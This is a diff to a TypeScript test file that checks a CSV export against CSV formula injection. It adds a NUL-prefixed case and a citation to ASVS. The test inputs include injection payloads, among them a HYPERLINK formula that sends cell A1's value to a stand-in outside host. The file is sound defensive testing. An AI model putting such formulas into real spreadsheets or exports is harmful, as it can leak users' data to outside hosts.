@@ -6,7 +6,7 @@ import { csvText } from '../../src/documents/csv.ts';
 const cellsOf = (text: string): string[][] => parse(text, { bom: true });
 
 describe('a table as CSV', () => {
-  // OWASP, "CSV Injection": cells that begin with = + - @, a tab, a carriage return or a line feed.
+  // OWASP, "CSV Injection": cells that begin with = + - @, a tab, a carriage return or a line feed; ASVS 5.0, 1.2.10: a NUL too.
   test.each([
     '=HYPERLINK("https://elsewhere.example/?q="&A1,"Open")',
     '+1+1',
@@ -15,6 +15,7 @@ describe('a table as CSV', () => {
     '\t=1+1',
     '\r=1+1',
     '\n=1+1',
+    '\0=1+1',
     '\uFF1D1+1',
     '\uFF0B1',
     '\uFF0D1+1',
